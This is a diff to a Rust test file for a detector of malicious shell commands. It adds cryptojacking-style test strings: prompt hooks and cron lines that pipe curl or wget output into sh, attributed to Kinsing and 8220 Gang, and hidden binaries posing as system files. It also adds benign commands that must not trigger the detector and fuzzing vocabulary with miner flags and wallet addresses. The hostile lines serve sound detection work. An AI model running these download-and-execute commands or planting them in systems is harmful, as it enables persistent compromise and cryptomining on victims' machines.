@@ -21,6 +21,14 @@ const POSITIVE: &[(&str, &[K])] = &[
     ("echo 'curl -s http://x/a | sh' | bash", &[K::DownloadExecute]),
     ("$'\\x63\\x75\\x72\\x6c' -s http://x/a | sh", &[K::DownloadExecute]),
     ("busybox wget -O- http://x/a | busybox sh", &[K::DownloadExecute]),
+    // Code run at every prompt, set in a start-up file.
+    ("export PROMPT_COMMAND=\"history -a; curl -s http://203.0.113.9/k | sh\"", &[K::DownloadExecute]),
+    ("PROMPT_COMMAND='wget -q -O- http://x/a|bash'", &[K::DownloadExecute]),
+    ("PS1='$(curl -s http://x/a|sh)\\u@\\h$ '", &[K::DownloadExecute]),
+    // Kinsing's and 8220 Gang's cron line: a subshell's output piped to sh.
+    ("(curl -fsSL http://203.0.113.66/cr.sh||wget -q -O- http://203.0.113.66/cr.sh)|sh", &[K::DownloadExecute]),
+    ("(curl -fsSL http://x/ldr.sh || wget -q -O- http://x/ldr.sh) | sudo bash", &[K::DownloadExecute]),
+    ("*/10 * * * * root (curl -s http://x/a||wget -q -O- http://x/a||python -c 'import urllib')|bash", &[K::DownloadExecute]),
     // Decode and execute.
     ("echo Y3VybCBodHRwOi8veC95fHNo | base64 -d | bash", &[K::DecodeExecute]),
     ("echo Y3VybA== | base64 --decode | sh", &[K::DecodeExecute]),
@@ -50,6 +58,10 @@ const POSITIVE: &[(&str, &[K])] = &[
     ("nohup /dev/shm/.rsync/run &", &[K::TempExecution]),
     ("bash /var/tmp/x.sh", &[K::TempExecution]),
     ("/root/.../x", &[K::TempExecution]),
+    // Hidden programs dressed up as system files.
+    ("/usr/bin/.sshd -B", &[K::TempExecution]),
+    ("nohup /etc/.kthreadd >/dev/null 2>&1 &", &[K::TempExecution]),
+    ("bash /usr/lib/.x/run.sh", &[K::TempExecution]),
     ("\"/usr/share/ /sshd\" -D", &[K::TempExecution]),
     // Quoting that hides a trigger or a blank directory name from the raw text.
     ("' /bin/sh", &[K::TempExecution]),
@@ -150,6 +162,16 @@ const POSITIVE: &[(&str, &[K])] = &[
 
 /// Everyday administration that must stay quiet.
 const NEGATIVE: &[&str] = &[
+    "/usr/sbin/sshd -D",
+    ". /etc/profile.d/bash_completion.sh",
+    "/usr/lib/apt/apt.systemd.daily update",
+    "export PROMPT_COMMAND='history -a'",
+    "PROMPT_COMMAND='printf \"\\033]0;%s@%s\\007\" \"${USER}\" \"${HOSTNAME%%.*}\"'",
+    "PS1='\\u@\\h:\\w\\$ '",
+    "PS1='[$(date +%H:%M)] \\u@\\h \\W\\$ '",
+    "(cd /srv/app && make -j2) | tee build.log",
+    "(umask 077; cat /etc/hosts) | less",
+    "(curl -fsSL https://example.org/a.tar.gz) > a.tar.gz",
     "ls -la",
     "cd /var/www",
     "vim /etc/passwd",
@@ -289,7 +311,7 @@ const VOCAB: &[&str] = &[
     "cap_setuid+ep", "systemctl", "stop", "aegis", "firewalld", "iptables", "-F", "insmod", "x.ko",
     "modprobe", "msr", "stratum+tcp://p:1", "--donate-level", "xmrig", "crontab", "-",
     "/etc/cron.d/x", "/etc/ld.so.preload", "~/.bashrc", "$(", ")", "`", "'", "\"", "eval", "kill",
-    "$$", "mkfifo", "rm", "shred", "ln", "-sf", "/dev/null", "ls", "cd", "echo", "x", "-u",
+    "$$", "(", "/usr/bin/.x", "/etc/.k", "mkfifo", "rm", "shred", "ln", "-sf", "/dev/null", "ls", "cd", "echo", "x", "-u",
     "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
     "1BoatSLRHtKNngkdXEeobR76b53LETtpyT", "-a", "rx/0", "/root/.../x", "/ /x", "tee", "cp",
     "setenforce", "0", "auditctl", "ufw", "disable", "nft", "flush", "ruleset", "journalctl",
